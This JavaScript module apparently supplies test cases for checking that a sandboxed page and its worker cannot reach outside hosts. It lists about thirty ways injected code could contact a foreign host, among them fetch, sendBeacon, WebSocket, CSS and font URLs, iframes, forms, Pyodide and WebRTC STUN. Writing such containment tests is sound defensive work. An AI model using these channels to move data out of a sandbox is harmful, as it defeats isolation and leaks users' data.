/**
 * Ways to send a word to another host, as somebody would try who had got code into the page or its worker. Each is run inside the browser
 * with the foreign host's address and port; what it gives or throws is of no interest, only what arrives there.
 */

/** In the worker, where the text and the interpreter are. */
export const WORKER = {
  fetch: (to) => fetch(`${to.address}/fetch`),
  post: (to) => fetch(`${to.address}/post`, { method: "POST", body: "text", mode: "no-cors", keepalive: true }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${to.address}/xhr`);
    request.send();
  },
  import: (to) => import(`${to.address}/import`),
  websocket: (to) => new WebSocket(`ws://127.0.0.1:${to.port}/websocket`),
  eventsource: (to) => new EventSource(`${to.address}/eventsource`),
  scripts: (to) => new Worker(URL.createObjectURL(new Blob([`importScripts("${to.address}/scripts")`]))),
  nested: (to) => new Worker(URL.createObjectURL(new Blob([`fetch("${to.address}/nested")`]))),
  python: async (to) => {
    const { loadPyodide } = await import(`${to.page}engine/pyodide.mjs`);
    const { info } = { info: { abi_version: to.abi, arch: "wasm32", platform: "", python: "", version: "" } };
    const python = await loadPyodide({ indexURL: `${to.page}engine/`, stdLibURL: `${to.page}engine/python.zip`, lockFileContents: { info, packages: {} } });
    await python.runPythonAsync(`import js\nawait js.fetch("${to.address}/python")`);
  },
};

/** In the page. */
export const PAGE = {
  ...Object.fromEntries(Object.entries(WORKER).filter(([name]) => name !== "python")),
  beacon: (to) => navigator.sendBeacon(`${to.address}/beacon`, "text"),
  image: (to) => {
    new Image().src = `${to.address}/image`;
  },
  script: (to) => document.head.append(Object.assign(document.createElement("script"), { src: `${to.address}/script` })),
  stylesheet: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to.address}/stylesheet` })),
  background: (to) => {
    document.body.style.background = `url(${to.address}/background)`;
  },
  rule: (to) => document.head.append(Object.assign(document.createElement("style"), { textContent: `body{list-style:url(${to.address}/rule) inside;display:list-item}` })),
  font: (to) => new FontFace("f", `url(${to.address}/font)`).load(),
  frame: (to) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${to.address}/frame` })),
  object: (to) => document.body.append(Object.assign(document.createElement("object"), { data: `${to.address}/object` })),
  video: (to) => document.body.append(Object.assign(document.createElement("video"), { src: `${to.address}/video`, preload: "auto" })),
  prefetch: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${to.address}/prefetch` })),
  preload: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: `${to.address}/preload` })),
  form: (to) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "into" });
    const form = Object.assign(document.createElement("form"), { action: `${to.address}/form`, method: "post", target: "into" });
    document.body.append(frame, form);
    form.submit();
  },
  rtc: async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to.host}:${to.port}` }] });
    peer.createDataChannel("text");
    await peer.setLocalDescription(await peer.createOffer());
  },
};
